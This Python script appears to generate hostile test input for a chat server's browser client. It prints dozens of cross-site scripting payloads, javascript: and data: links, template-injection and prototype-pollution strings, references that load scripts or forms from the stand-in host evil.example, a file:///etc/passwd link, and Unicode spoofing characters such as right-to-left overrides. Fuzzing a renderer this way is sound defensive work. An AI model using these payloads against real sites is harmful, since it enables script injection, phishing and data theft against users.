#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Prints what people could say to harm who reads it in a browser, a line each.

Usage: hostile.py lines | names

A line is at most 4,096 bytes, and none is a command of the chat.  The names are
those that chatserver(8) allows.
"""
import sys

MARKUP = r"""
<script>alert(1)</script>
</script><script>alert(1)</script>
<ScRiPt src=http://evil.example/x.js></sCrIpT>
<img src=x onerror=alert(1)>
<img src="http://evil.example/pixel.png">
"><img src=x onerror=alert(1)>
'><svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<body onload=alert(1)>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe src=javascript:alert(1)></iframe>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src=javascript:alert(1)>
<a href="javascript:alert(1)">click me</a>
<a href="jav&#x0A;ascript:alert(1)">click me</a>
<form action=http://evil.example/><button>ok</button></form>
<button formaction=javascript:alert(1)>ok</button>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>
<base href=http://evil.example/>
<meta http-equiv=refresh content="0;url=http://evil.example/">
<link rel=stylesheet href=http://evil.example/x.css>
<style>*{display:none}</style>
</style><style>body{background:url(http://evil.example/x)}
<div style="position:fixed;inset:0;background:red">
<p id=log class=hidden name=body>
<template><img src=x onerror=alert(1)></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<textarea></textarea><script>alert(1)</script>
<title></title><script>alert(1)</script>
<!-- --><script>alert(1)</script><!--
<![CDATA[<script>alert(1)</script>]]>
<xmp><plaintext><listing>
<dialog open>the server asks for your password</dialog>
<x onclick=alert(1) tabindex=1 autofocus>
<img src=x onerror=&#97;lert(1)>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&amp;lt;b&amp;gt; &nbsp;&copy;&unknown;
\x3cscript\x3ealert(1)\x3c/script\x3e
\u003cimg src=x onerror=alert(1)\u003e
%3Cscript%3Ealert(1)%3C/script%3E
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//
';alert(1);//
"-alert(1)-"
`${alert(1)}`
{{constructor.constructor('alert(1)')()}}
{{7*7}} ${7*7} #{7*7} <%= 7*7 %> [[7*7]] {% raw %}
__proto__ constructor toString hasOwnProperty
{"__proto__":{"admin":true}}
**bold** _under_ [link](javascript:alert(1)) ![](http://evil.example/x.png)
expression(alert(1)) url(javascript:alert(1)) @import 'http://evil.example/x'
"""

LINKS = r"""
javascript:alert(1)
JAVASCRIPT:alert(1)
javascript://example.com/%0aalert(1)
 javascript:alert(1)
vbscript:msgbox(1)
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
blob:http://127.0.0.1/x
file:///etc/passwd
view-source:http://example.com/
http://example.com/"onmouseover="alert(1)
http://example.com/'onmouseover='alert(1)
http://example.com/<script>alert(1)</script>
http://example.com/ javascript:alert(1)
http://javascript:alert(1)@example.com/
http://trusted.example@evil.example/
https://evil.example\@trusted.example/
http://[::1
http://
http://.
http://%zz/
http://example.com:99999999/
https://example.com/?a=1&lt=2&copy=3#<b>
see http://example.com/, or (https://example.org/a_(b)).
HTTP://EXAMPLE.COM/UPPER
"""

# Characters that are written as what they are called; what the server removes
# of them is its affair: the page shows what is left.
CHARACTERS = (
    "right-to-left override \u202egnp.exe\u202c end",
    "isolates \u2066a\u2067b\u2068c\u2069 d",
    "embeddings \u202aa\u202bb\u202c marks \u200e\u200f\u061c end",
    "unclosed \u2067isolate",
    "\u05e9\u05dc\u05d5\u05dd \u05e2\u05d5\u05dc\u05dd (\u05d0) <b> 123",
    "\u0645\u0631\u062d\u0628\u0627 [alice] hello",
    "zero\u200bwidth\u200cnon\u200djoin\u2060er\ufeffmark",
    "soft\u00adhyphen and\u034fjoiner and\u180evowel",
    "line\u2028separator\u2029paragraph",
    "next\u0085line",
    "no-break\u00a0space, wide\u3000space, thin\u2009space",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324" * 40,
    "a" + "\u0300" * 1500,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 "
    "\U0001f44d\U0001f3ff \U0001f1e9\U0001f1ea \u2764\ufe0f 1\ufe0f\u20e3",
    "tags \U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067"
    "\U000e007f",
    "noncharacters \ufffe\uffff\ufdd0\U0001fffe\U0010ffff",
    "private use \ue000\U000f0000",
    "\ufdfd" * 200,
    "\u115f\u1160\u3164\uffa0",
    "\U0001d518\U0001d52b\U0001d526\u24d2\u24de \uff1cscript\uff1e",
    "interlinear \ufff9a\ufffab\ufffb",
    "x" * 4096,
    "\u4e2d" * 1365,
    "<b>" * 1365,
    "\U0001f986" * 1024,
    "-" * 4096,
)

NAMES = """
__proto__ constructor prototype toString valueOf hasOwnProperty
isPrototypeOf __defineGetter__ __lookupSetter__ undefined null true false
NaN Infinity 0 -1 1e9 length then window document body head log name
input lobby me admin public private a-b a.b.c
"""


def lines():
    for text in MARKUP, LINKS:
        yield from text.strip("\n").split("\n")
    yield from CHARACTERS


def main():
    what = NAMES.split() if sys.argv[1] == "names" else lines()
    sys.stdout.reconfigure(encoding="utf-8")
    for each in what:
        if len(each.encode()) > 4096:
            sys.exit(f"too long: {each[:40]}")
        print(each)


if __name__ == "__main__":
    main()
